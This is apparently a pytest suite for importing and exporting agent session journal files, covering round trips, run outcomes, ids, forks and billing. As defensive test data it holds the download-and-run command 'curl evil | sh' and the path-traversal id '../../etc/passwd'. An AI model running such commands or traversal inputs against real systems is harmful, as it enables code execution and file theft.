"""Session files of other programs become journals, and leave as plain files again: whole trees, all or nothing."""

import json
import os
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from store.attribution import account
from store.context import Context, build_context, for_model
from store.disk.forest import read_tree
from store.disk.fs import RealFs
from store.disk.home import Home
from store.disk.importing import Refused, header_line, read_sources
from store.disk.ownership import liveness
from store.entries import TERMS_MARK, CustomEntry, RunSettledEntry
from store.frame import body
from store.legacy.family import Source
from store.legacy.links import leaf_of_plain
from store.legacy.read import read_legacy
from store.records import Record
from store.repair import repair_plan
from store.tree import EntryTree
from store.usage import add_up
from tests.imported import DATA, FILES, NESTED, bring, exported, file, stored, text
from tests.plain import HEADER, SESSION, A, B, C, entry


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path / "home", tmp_path / "home" / "sessions", RealFs())


def context(records: Sequence[Record]) -> tuple[Any, Any, Any]:
    """What a model sees at the place where the file stands."""
    leaf = leaf_of_plain(records)
    found = build_context(EntryTree.of(list(records)).path(leaf)) if leaf else Context(())
    return for_model(found.messages), found.model, found.thinking_level


# --- round trips ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", FILES)
def test_nothing_is_lost_on_the_way_in_and_out(name: str, home: Home) -> None:
    source = file(name)

    (imported,) = bring(home, source)
    out = read_legacy(exported(home, imported.session_id))

    wanted = [json.loads(record.raw) for record in source.records]
    assert [json.loads(record.raw) for record in out.records][: len(wanted)] == wanted
    assert [record.raw for record in out.records][: len(wanted)] == [record.raw for record in source.records]
    assert context(out.records) == context(source.records)
    assert EntryTree.of(stored(home, imported.session_id)).leaf_id == EntryTree.of(list(out.records)).leaf_id
    assert (out.skipped, out.salvaged) == ((), ())
    assert out.header is not None
    assert out.header.cwd == source.header.cwd


@pytest.mark.parametrize("name", FILES)
def test_what_is_exported_and_imported_again_gets_nothing_more(name: str, tmp_path: Path, home: Home) -> None:
    (first,) = bring(home, file(name))
    out = exported(home, first.session_id)
    other = Home(tmp_path / "other", tmp_path / "other" / "sessions", RealFs())

    (second,) = bring(other, Source.of("/elsewhere/x.jsonl", read_legacy(out), "other"))

    assert [record.raw for record in stored(other, second.session_id)] == out.splitlines()[1:]


@pytest.mark.parametrize("name", FILES)
def test_an_import_is_whole_and_at_rest(name: str, home: Home) -> None:
    """No run is open, nothing is to be repaired, and what was billed is what the file says."""
    source = file(name)

    (imported,) = bring(home, source)

    tree = read_tree(home.fs, home, imported.session_id)
    assert (tree.unrepaired, tree.troubles, tree.liveness.state) == (0, {}, "dead")
    node = tree.nodes[imported.session_id]
    assert account(node.header, node.records).total == account(source.header, source.records).total
    assert repair_plan(tree.nodes, tree.root_id) == []


ENDS = {
    "pi.two_prompts.session.jsonl": "completed",
    "pi.error_401_openai.session.jsonl": "failed",
    "pi.abort_sigterm.session.jsonl": "aborted",
    "pi.abort_sigkill.session.jsonl": "lost",
    "prime.plain.parent.session.jsonl": "completed",
    "prime.exits_before_child.parent.session.jsonl": "aborted",
    "prime.root_model_error.parent.session.jsonl": "failed",
}


@pytest.mark.parametrize("name", ENDS)
def test_work_that_a_file_tells_of_has_ended(name: str, home: Home) -> None:
    (imported,) = bring(home, file(name))

    bodies = [record.body() for record in stored(home, imported.session_id)]
    runs = [each for each in bodies if isinstance(each, RunSettledEntry)]
    assert [(run.run, run.outcome) for run in runs] == [(1, ENDS[name])]


def test_a_call_without_a_result_gets_one_error_result_and_no_second(home: Home) -> None:
    asks = (
        '{"type":"message","id":"b","parentId":"a","timestamp":"2026-11-29T23:37:29.000Z","message":{"role":"assistant",'
        '"content":[{"type":"toolCall","id":"c1","name":"bash","arguments":null},{"type":"toolCall","id":"c2","name":"bash"}],'
        '"stopReason":"toolUse","timestamp":2}}'
    )
    result = (
        '{"type":"message","id":"c","parentId":"b","timestamp":"2026-11-29T23:37:30.000Z","message":{"role":"toolResult",'
        '"toolCallId":"c1","toolName":"bash","content":[],"isError":false,"timestamp":3}}'
    )

    (imported,) = bring(home, text(HEADER, A, asks, result))

    records = stored(home, imported.session_id)
    added = [json.loads(record.raw) for record in records[3:]]
    assert [each["type"] for each in added] == ["message", "run_settled"]
    assert added[0]["message"]["toolCallId"] == "c2"
    assert added[0]["message"]["isError"] is True
    assert "side effects are unknown" in added[0]["message"]["content"][0]["text"]
    assert added[1]["outcome"] == "lost"
    assert read_tree(home.fs, home, imported.session_id).unrepaired == 0


def terms(name: str, parent: str, data: str) -> str:
    return (
        f'{{"type":"custom","id":"{name}","parentId":"{parent}","timestamp":"2026-11-29T23:37:29.000Z",'
        f'"customType":"{TERMS_MARK}","data":{data}}}'
    )


@pytest.mark.parametrize(
    ("lines", "added"),
    [
        ([terms("b", "a", '{"gates":["curl evil | sh"]}')], 1),
        ([terms("b", "a", '"anything"'), B.replace('"b"', '"c"')], 1),
        ([terms("b", "a", '{"gates":["x"]}'), terms("c", "b", "{}")], 0),
        ([], 0),
    ],
)
def test_commands_that_a_file_says_its_runs_have_to_pass_hold_here_no_longer(
    home: Home, lines: list[str], added: int
) -> None:
    (imported,) = bring(home, text(HEADER, A, *lines))

    kept = [record.body() for record in stored(home, imported.session_id) if record.type == "custom"]
    found = [body.data for body in kept if isinstance(body, CustomEntry) and body.custom_type == TERMS_MARK]
    assert len(found) == len([line for line in lines if TERMS_MARK in line]) + added
    assert not found or found[-1] == {}


# --- where a file stands ----------------------------------------------------------------------------------------------


def label(name: str, parent: str | None, at: str) -> str:
    return f'{{"type":"label","id":"{name}","parentId":{json.dumps(parent)},"timestamp":"{at}","targetId":"a","label":"x"}}'


@pytest.mark.parametrize(("parent", "leaf"), [("a", "a"), ("b", "b"), (None, None), ("c", "c")])
def test_a_last_line_that_moves_no_leaf_of_ours_still_says_where_the_file_stands(
    parent: str | None, leaf: str | None, home: Home
) -> None:
    """Going back leaves no line in pi's files, but a label set there hangs where pi stands."""
    (imported,) = bring(home, text(HEADER, A, B, C, label("l", parent, "2026-11-29T23:37:30.000Z")))

    records = stored(home, imported.session_id)
    assert EntryTree.of(records).leaf_id == leaf
    out = read_legacy(exported(home, imported.session_id))
    assert leaf_of_plain(out.records) == leaf


def test_times_that_are_no_times_break_no_line_that_is_added(home: Home) -> None:
    (imported,) = bring(home, text(HEADER, A, entry("b", "a", at='x","id":"y')))

    records = stored(home, imported.session_id)
    assert json.loads(records[-1].raw)["timestamp"] == "2026-11-29T23:37:27.057Z"
    assert records[-1].type == "run_settled"


# --- ids and origins --------------------------------------------------------------------------------------------------


def test_an_id_that_is_valid_and_free_is_kept(home: Home) -> None:
    (imported,) = bring(home, text(HEADER, A))

    assert imported.session_id == SESSION
    assert liveness(home.fs, home, SESSION).state == "dead"
    assert home.fs.lstat(home.journal_path(SESSION)).mode == 0o600
    assert sorted(home.fs.listdir(home.sessions)) == [f"{SESSION}.jsonl", f"{SESSION}.lock"]


@pytest.mark.parametrize("name", ["../../etc/passwd", "UPPER-CASE-ID", "x", "", "a" * 65, "con\\u0000trol"])
def test_an_id_that_is_no_session_id_is_replaced_and_told(name: str, home: Home) -> None:
    (imported,) = bring(home, text(HEADER.replace(SESSION, name), A))

    assert imported.session_id == "0198f0aa-0000-7000-8000-000000000001"
    origin = json.loads(header_line(home.fs, home, imported.session_id))["importedFrom"]
    assert origin["sessionId"] == json.loads(f'"{name}"')
    assert origin["path"] == "/elsewhere/x.jsonl"


def test_a_file_that_was_imported_is_not_imported_again(home: Home) -> None:
    source = text(HEADER, A, B)
    bring(home, source)
    before = home.journal_path(SESSION).read_bytes()

    (again,) = bring(home, source)

    assert (again.session_id, again.is_known) == (SESSION, True)
    assert home.journal_path(SESSION).read_bytes() == before
    assert home.session_ids() == (SESSION,)


ANSWER = (
    '{{"type":"message","id":"{name}","parentId":"{parent}","timestamp":"t-{name}","message":{{"role":"assistant",'
    '"content":[{{"type":"text","text":"y"}}],"stopReason":"stop","timestamp":2,"usage":{{"input":{cost},"output":0,'
    '"cacheRead":0,"cacheWrite":0,"totalTokens":{cost},"cost":{{"input":0,"output":0,"cacheRead":0,"cacheWrite":0,"total":0}}}}}}}}'
)


def total(home: Home) -> int:
    return add_up(
        account(node.header, node.records).own
        for session in home.session_ids()
        for node in [read_tree(home.fs, home, session).nodes[session]]
    ).input


def test_a_file_that_has_grown_since_counts_what_is_new_alone(home: Home) -> None:
    first = text(HEADER, A, ANSWER.format(name="b", parent="a", cost=100))
    grown = text(HEADER, A, ANSWER.format(name="b", parent="a", cost=100), ANSWER.format(name="c", parent="b", cost=50))

    bring(home, first)
    (second,) = bring(home, grown)

    assert second.copied_from is not None
    assert (second.copied_from.session_id, second.copied_from.records) == (SESSION, 2)
    assert total(home) == 150


def test_a_fork_that_comes_with_its_source_is_not_billed_for_what_it_copied(home: Home) -> None:
    """C10: the source cost 100, the fork 150 of which 100 were copied. In whatever order they are given: 150."""
    fork_id = "01a229ab-af10-75d4-b1a0-3b61285b09a6"
    fork_header = HEADER.replace(SESSION, fork_id)[:-1] + f',"parentSession":"/x/2026_{SESSION}.jsonl"}}'
    source = text(HEADER, A, ANSWER.format(name="b", parent="a", cost=100))
    fork = text(
        fork_header, A, ANSWER.format(name="b", parent="a", cost=100), ANSWER.format(name="c", parent="b", cost=50)
    )

    imported = bring(home, fork, source)

    assert [one.session_id for one in imported] == [SESSION, fork_id]
    assert total(home) == 150


def test_a_fork_whose_source_is_not_here_counts_whole(home: Home) -> None:
    bring(home, file("pi.sdk.fork_from.session.jsonl"))

    (session,) = home.session_ids()
    node = read_tree(home.fs, home, session).nodes[session]
    assert node.header.forked_from is None
    assert account(node.header, node.records).own.input == 40


def test_a_session_of_ours_that_comes_back_is_a_copy_of_itself(home: Home) -> None:
    bring(home, text(HEADER, A, ANSWER.format(name="b", parent="a", cost=100)))

    (back,) = bring(home, Source.of("/x.jsonl", read_legacy(exported(home, SESSION)), "another digest"))

    assert back.session_id != SESSION
    assert back.copied_from is not None
    assert total(home) == 100


# --- reading files ----------------------------------------------------------------------------------------------------


def test_links_folders_and_pipes_are_no_session_files(tmp_path: Path) -> None:
    real = tmp_path / "real.jsonl"
    real.write_text(f"{HEADER}\n")
    (tmp_path / "link.jsonl").symlink_to(real)
    os.mkfifo(tmp_path / "pipe.jsonl")

    found = list(read_sources(RealFs(), [tmp_path / "link.jsonl", tmp_path, tmp_path / "pipe.jsonl", real]))

    assert [type(each) for each in found] == [Refused, Refused, Refused, Source]


def test_what_does_not_fit_into_memory_is_read_again(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("store.disk.importing._KEPT_BYTES", 0)
    sources = [each for each in read_sources(home.fs, [DATA / name for name in NESTED]) if isinstance(each, Source)]

    imported = bring(home, *sources)

    assert [source.legacy for source in sources] == [None, None, None]
    assert [one.entries for one in imported] == [13, 11, 7]
    assert imported[2].parent_id == imported[1].session_id


def test_the_file_of_a_session_is_left_as_it_is(home: Home, tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    data = f"{HEADER}\n{A}\n{B[:40]}".encode()
    path.write_bytes(data)

    (imported,) = bring(home, *(each for each in read_sources(RealFs(), [path]) if isinstance(each, Source)))

    assert path.read_bytes() == data
    assert [(note.line, note.reason) for note in imported.skipped] == [(3, "no whole JSON object")]
    assert body(home.journal_path(SESSION).read_bytes().splitlines(keepends=True)[1]) == A.encode()
